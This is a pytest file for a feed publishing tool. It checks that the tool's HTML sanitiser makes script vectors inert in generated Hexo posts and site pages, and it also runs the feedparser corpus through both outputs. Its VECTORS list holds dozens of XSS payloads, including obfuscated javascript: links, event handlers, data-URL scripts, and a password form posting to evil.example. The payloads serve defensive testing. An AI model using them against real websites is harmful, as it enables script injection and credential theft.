"""Script vectors in feed items, and feedparser's own corpus, through BOTH outputs (Hexo posts and site pages).

The produced HTML is parsed (lxml) and every element and attribute inspected; see support.py.
"""

from __future__ import annotations

import json

import pytest
from click.testing import CliRunner

from feedstation.cli import main
from tests.corpora import feedparser_corpus_files
from tests.hostile.support import (
    CORPUS, content_findings, item_content, item_page_for, page_findings, posts, read_post, rss, site_pages,
    write_config,
)

PNG = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
VECTORS = {
    "script": "<script>alert(1)</script>",
    "script-uppercase-split": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-onload": "<svg onload=alert(1)><circle r=1 /></svg>",
    "img-onerror": '<img src="https://img.example.com/a.png" onerror="alert(1)">',
    "body-onload": "<body onload=alert(1)>x</body>",
    "a-onclick": '<a href="https://example.com/" onclick="alert(1)" onmouseover=alert(2)>link</a>',
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "javascript-mixed-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript-tab": '<a href="java\tscript:alert(1)">x</a>',
    "javascript-newline": '<a href="java\nscript:alert(1)">x</a>',
    "javascript-entity-tab": '<a href="java&#x09;script:alert(1)">x</a>',
    "javascript-decimal-entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "javascript-leading-space": '<a href="  javascript:alert(1)">x</a>',
    "javascript-control-char": '<a href="\x01javascript:alert(1)">x</a>',
    "javascript-img-src": '<img src="javascript:alert(1)">',
    "vbscript": '<a href="VBScript:MsgBox(1)">x</a>',
    "data-html-link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data-svg-image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "data-html-iframe": '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "form-password": '<form action="https://evil.example/steal"><input type="password" name="pw"><button>go</button></form>',
    "formaction": '<button formaction="javascript:alert(1)">go</button>',
    "css-expression": '<div style="width: expression(alert(1))">x</div>',
    "css-url-javascript": '<div style="background:url(javascript:alert(1))">x</div>',
    "style-block": "<style>body{background:url(javascript:alert(1))}</style>",
    "style-import": "<style>@import 'https://evil.example/x.css';</style>",
    "base": '<base href="javascript:alert(1)//">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "svg-xlink": '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="10">x</text></a></svg>',
    "math-xlink": '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "noscript-breakout": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "comment-breakout": "<!--<img src=x onerror=alert(1)>-->",
    "template": "<template><script>alert(1)</script></template>",
    "textarea-breakout": "<textarea></textarea><script>alert(1)</script></textarea>",
}
KEEP_IMAGE = f'<img src="{PNG}" alt="pixel">'


@pytest.fixture(scope="module")
def vector_run(tmp_path_factory):
    # SQLite only: one run shared by every vector test; what is checked is the sanitiser's output, and
    # the corpus test below stores hostile content on both dialects.
    folder = tmp_path_factory.mktemp("vectors")
    items = [
        {"title": f"vector {name}", "guid": f"v-{name}", "link": f"https://example.com/{name}",
         "description": f"<p>keep {name}</p>{html}{KEEP_IMAGE if name == 'data-svg-image' else ''}",
         "pubDate": "Mon, 01 Jun 2026 10:00:00 GMT"}
        for name, html in VECTORS.items()
    ]
    feed = folder / "vectors.xml"
    feed.write_bytes(rss("vectors", items))
    config = write_config(folder, {"安全": {"向量": {"全部": str(feed)}}})
    result = CliRunner().invoke(main, ["run", "--config", str(config)], env={"COLUMNS": "250"})
    assert result.exit_code == 0, result.output
    return folder


@pytest.mark.parametrize("name", list(VECTORS))
def test_script_vector_is_inert_in_the_hexo_post_and_the_site_item_page(vector_run, name):
    title = f"vector {name}"
    matches = [p for p in posts(vector_run / "posts") if p.front["title"] == title]
    assert len(matches) == 1, f"{len(matches)} Hexo posts titled {title!r}"
    post = matches[0]
    assert content_findings(post.body) == [], post.body
    assert f"keep {name}" in post.body  # the item itself was published, just cleaned
    for key in ("headimg", "thumbnail"):  # http(s), or an image data URL lifted from the body
        assert content_findings(f'<img src="{post.front[key]}">') == [], post.front[key]

    page = item_page_for(vector_run / "public", title)
    assert page_findings(page.read_text(encoding="utf-8")) == []
    content = item_content(page)
    assert content_findings(content) == [], content
    assert f"keep {name}" in content


def test_image_data_urls_survive_while_other_data_urls_do_not(vector_run):
    page = item_page_for(vector_run / "public", "vector data-svg-image")
    content = item_content(page)
    assert PNG in content and "image/svg+xml" not in content


def test_no_site_page_at_all_carries_a_script_vector(vector_run):
    pages = site_pages(vector_run / "public")
    assert len(pages) > len(VECTORS)
    bad = {str(p.relative_to(vector_run / "public")): f for p in pages if (f := page_findings(p.read_text("utf-8")))}
    assert bad == {}


# -- feedparser's corpus through both outputs ----------------------------------------------------------

def corpus_tree() -> tuple[dict, int]:
    files = feedparser_corpus_files()
    tree: dict = {}
    for path in files:
        rel = path.relative_to(CORPUS).parts
        category, site = rel[0], "/".join(rel[1:-1]) or "-"
        tree.setdefault(category, {}).setdefault(site.replace("/", "·"), {})[rel[-1]] = str(path)
    return tree, len(files)


def test_feedparser_corpus_runs_through_both_outputs_without_a_live_script_vector(tmp_path, store_target):
    # Fail, not skip: without the corpus this property would silently test nothing.
    assert CORPUS.is_dir(), f"feed corpus missing at {CORPUS}"
    tree, count = corpus_tree()
    assert count > 800
    config = write_config(tmp_path, tree, fetch={"max_bytes": 10 * 1024 * 1024}, storage=store_target)
    result = CliRunner().invoke(main, ["run", "--config", str(config)], env={"COLUMNS": "250"})
    assert result.exit_code == 0, result.output[-3000:]
    assert f"{count} feeds fetched" in result.output

    post_files = sorted((tmp_path / "posts").rglob("*.md"))
    assert len(post_files) > 300
    bad_posts = {}
    for path in post_files:
        post = read_post(path)
        if findings := content_findings(post.body):
            bad_posts[str(path.relative_to(tmp_path))] = findings
    assert bad_posts == {}

    pages = site_pages(tmp_path / "public")
    assert len(pages) > 300
    bad_pages = {}
    for page in pages:
        if findings := page_findings(page.read_text(encoding="utf-8")):
            bad_pages[str(page.relative_to(tmp_path))] = findings
    assert bad_pages == {}
    # The JSON Feed output is data too: no javascript: link survives into it.
    feed_json = json.loads((tmp_path / "public" / "feed.json").read_text(encoding="utf-8"))
    for item in feed_json["items"]:
        assert not str(item.get("url", "")).lower().lstrip().startswith(("javascript:", "vbscript:", "data:"))
